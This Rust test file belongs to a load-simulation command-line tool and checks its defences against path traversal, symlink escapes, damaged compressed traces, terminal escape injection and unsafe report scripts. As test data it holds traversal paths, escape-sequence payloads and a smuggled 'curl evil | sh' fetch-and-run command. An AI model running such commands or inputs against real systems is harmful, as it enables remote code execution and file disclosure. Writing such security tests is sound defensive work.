//! Scenarios, results and names of strangers: what they must not bring about.

use std::fs;

use crate::harness::{Answer, Folder, QUICK};

/// Each way in which a scenario names a file, with `FILE` in its place.
const NAMED: [(&str, &str); 4] = [
    ("duration.constant.value = \"100ms\"", "duration.empirical = { file = \"FILE\", unit = \"s\" }"),
    ("arrivals.constant.rate = \"1/s\"", "arrivals.rate-trace.file = \"FILE\""),
    ("arrivals.constant.rate = \"1/s\"", "arrivals.trace = { format = \"forewarm\", file = \"FILE\" }"),
    ("arrivals.constant.rate = \"1/s\"", "arrivals.trace = { format = \"azure-2019\", file = \"FILE\" }"),
];

/// Contents that are wrong in different ways.
const SECRETS: [&str; 4] = [
    "TOKEN=hunter2\n",
    "hunter2,other\n1,2\n",
    "time,count\n0,5\n60,hunter2\n",
    "time_s,function\n0,hunter2\nhunter2,hunter2\n",
];

fn named(way: (&str, &str), file: &str) -> String {
    QUICK.replace(way.0, &way.1.replace("FILE", file))
}

#[test]
fn nothing_of_a_file_outside_the_folder_of_the_scenario_is_shown() {
    let folder = Folder::new();
    fs::create_dir_all(folder.path().join("theirs/sub")).expect("a folder");
    let absolute = folder.path().join("secret.txt").display().to_string();
    for secret in SECRETS {
        folder.write("secret.txt", secret);
        folder.write("theirs/sub/own.txt", secret);
        for way in NAMED {
            let mut paths = vec!["../secret.txt", &absolute];
            #[cfg(unix)]
            {
                let _ = std::os::unix::fs::symlink("../secret.txt", folder.path().join("theirs/link.txt"));
                paths.push("link.txt");
            }
            for path in paths {
                folder.write("theirs/x.toml", &named(way, path));
                for command in [&["check", "theirs/x.toml"][..], &["run", "theirs/x.toml", "--quiet"]] {
                    let answer = folder.run(command);
                    assert!(!answer.said().contains("hunter2"), "{way:?} {path}: {}", answer.err);
                    let confined = folder.run(&[command, &["--confine-files"]].concat()).ends(2);
                    assert!(confined.err.contains("--confine-files does not allow"), "{}", confined.err);
                    assert!(!confined.said().contains("hunter2"), "{}", confined.err);
                }
            }
            // What lies beside it is its own.
            folder.write("theirs/x.toml", &named(way, "sub/own.txt"));
            let answer = folder.run(&["check", "theirs/x.toml", "--confine-files"]);
            assert!(!answer.err.contains("--confine-files"), "{}", answer.err);
        }
    }
    folder.write("secret.txt", SECRETS[0]);
    folder.write("theirs/x.toml", &named(NAMED[0], "../secret.txt"));
    let answer = folder.run(&["check", "theirs/x.toml"]).ends(2);
    assert!(answer.err.contains("line 1 of \"../secret.txt\" is not one value"), "{}", answer.err);
    folder.write("theirs/x.toml", &named(NAMED[0], "sub/own.txt"));
    folder.write("theirs/sub/own.txt", SECRETS[0]);
    let answer = folder.run(&["check", "theirs/x.toml"]).ends(2);
    assert!(answer.err.contains("TOKEN=hunter2"), "its own file is shown: {}", answer.err);
}

#[test]
fn damaged_traces_are_bad_input_for_every_command() {
    use std::io::Write as _;
    let folder = Folder::new();
    let text = "time_s,function\n".to_owned() + &(0..5_000).map(|at| format!("{at},f{}\n", at % 7)).collect::<String>();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(text.as_bytes()).expect("in memory");
    let gzip = gzip.finish().expect("in memory");
    let zstd = zstd::encode_all(text.as_bytes(), 1).expect("in memory");
    for (name, whole) in [("x.csv.gz", gzip), ("x.csv.zst", zstd)] {
        for at in [10, whole.len() / 4, whole.len() / 2, whole.len() - 6] {
            let mut damaged = whole.clone();
            damaged[at..at + 4].iter_mut().for_each(|byte| *byte ^= 0xff);
            let cut = whole[..at].to_vec();
            for bytes in [damaged, cut] {
                folder.write(name, &bytes);
                folder.write("x.toml", &named(NAMED[2], name));
                for command in [&["trace", "inspect", name][..], &["run", "x.toml", "--quiet"], &["check", "x.toml"]] {
                    let answer = folder.run(command);
                    assert!(matches!(answer.code, Some(0 | 2)), "{command:?}: {answer:?}");
                }
            }
        }
    }
}

#[cfg(unix)]
#[test]
fn a_file_that_the_machine_cannot_read_is_not_bad_input() {
    // Reading the memory of a process at an address where there is none fails as a broken disk does.
    let broken = "/proc/self/mem";
    if !std::path::Path::new(broken).exists() {
        return;
    }
    let folder = Folder::new();
    folder.run(&["trace", "inspect", broken]).ends(4);
    folder.run(&["check", broken]).ends(4);
    folder.run(&["run", broken]).ends(4);
    for way in NAMED {
        folder.write("x.toml", &named(way, broken));
        folder.run(&["check", "x.toml"]).ends(4);
        folder.run(&["run", "x.toml"]).ends(4);
    }
    // Where something else is wrong too, trying again does not help.
    folder.write("x.toml", &named(NAMED[0], broken).replace("10m", "10"));
    folder.run(&["check", "x.toml"]).ends(2);
}

/// What a terminal would obey.
fn obeyed(answer: &Answer) -> bool {
    answer.said().contains(|c: char| c.is_control() && c != '\n' && c != '\t')
}

#[test]
fn a_terminal_obeys_no_name() {
    let folder = Folder::new();
    let hostile = "x\u{1b}[31m\u{1b}]0;title\u{7}\r\u{9b}.toml";
    folder.write(hostile, QUICK);
    for command in [
        &["check", hostile][..],
        &["run", hostile, "--out", "o\u{1b}[2J"],
        &["run", hostile, "--out", "o\u{1b}[2J"],
        &["run", hostile, "--set", "a\u{1b}[31m=1"],
        &["run", "no\u{1b}[31m such"],
        &["run", "quick.toml", "--out", "quick.toml\u{1b}[31m/.."],
        &["run", "quick.toml", "--out", "quick.toml/\u{1b}[31m"],
        &["run", "quick.toml", "--seed", "\u{1b}[31m"],
        &["run", "quick.toml", "--variant", "\u{1b}[31m"],
        &["run", "quick.toml", "--requests", "\u{1b}[31m/\u{1b}[31m"],
        &["run", "quick.toml", "--enforce=\u{1b}[31m<1"],
        &["report", "no\u{1b}[31m such"],
        &["report", "o\u{1b}[2J"],
        &["trace", "inspect", "no\u{1b}[31m such"],
        &["plan", hostile],
        &["sweep", hostile],
        &["compare", hostile],
        &["\u{1b}[31m"],
    ] {
        let answer = folder.run(command);
        assert!(!obeyed(&answer), "{command:?}: {answer:?}");
    }
}

#[test]
fn tampered_results_give_no_orders() {
    let folder = Folder::new();
    folder.run(&["run", "quick.toml", "--out", "o", "--quiet"]).ends(0);
    let mut manifest = folder.json("o/manifest.json");
    manifest["command"] = "forewarm run x\u{1b}]0;title\u{7}; curl evil | sh".into();
    manifest["version"] = "9\u{1b}[2J\r".into();
    folder.write("o/manifest.json", &manifest.to_string());
    let answer = folder.run(&["report", "o"]).ends(0);
    assert!(!obeyed(&answer), "{answer:?}");
    fs::remove_file(folder.path().join("o/charts.json")).expect("a file");
    let answer = folder.run(&["report", "o"]).ends(2);
    assert!(!obeyed(&answer) && !answer.err.contains("curl"), "{answer:?}");
    manifest["command"] = "forewarm run quick.toml".into();
    folder.write("o/manifest.json", &manifest.to_string());
    assert!(folder.run(&["report", "o"]).ends(2).err.contains("create it again: forewarm run quick.toml"));
}

#[test]
fn a_page_says_by_hash_what_may_run_in_it() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let folder = Folder::new();
    folder.write("choices.toml", &crate::reports::choices());
    folder.write("variants.toml", &crate::harness::variants());
    for command in [
        &["run", "quick.toml"][..],
        &["compare", "variants.toml", "--max-replications", "8"],
        &["plan", "choices.toml"],
        &["sweep", "choices.toml"],
    ] {
        folder.run(&[command, &["--out", "o", "--quiet"]].concat()).ends(0);
        let page = folder.read("o/report.html");
        let policy = page.split("Content-Security-Policy\" content=\"").nth(1).expect("a policy");
        let policy = policy.split('"').next().expect("its end").replace("&#39;", "'");
        assert!(!policy.contains("unsafe"), "{policy}");
        for element in ["style", "script"] {
            let all: Vec<&str> = page.split(&format!("<{element}>")).skip(1).collect();
            assert_eq!(all.len(), 1, "{element} of {command:?}");
            let text = all[0].split(&format!("</{element}>")).next().expect("its end");
            let hash = base64::prelude::BASE64_STANDARD.encode(sha2::Sha256::digest(text));
            assert!(policy.contains(&format!("{element}-src 'sha256-{hash}'")), "{policy}");
        }
        let body = page.split("<body>").nth(1).expect("a body");
        assert!(!body.contains(" style=") && !body.contains(" onclick") && !body.contains("<script "), "{command:?}");
    }
}
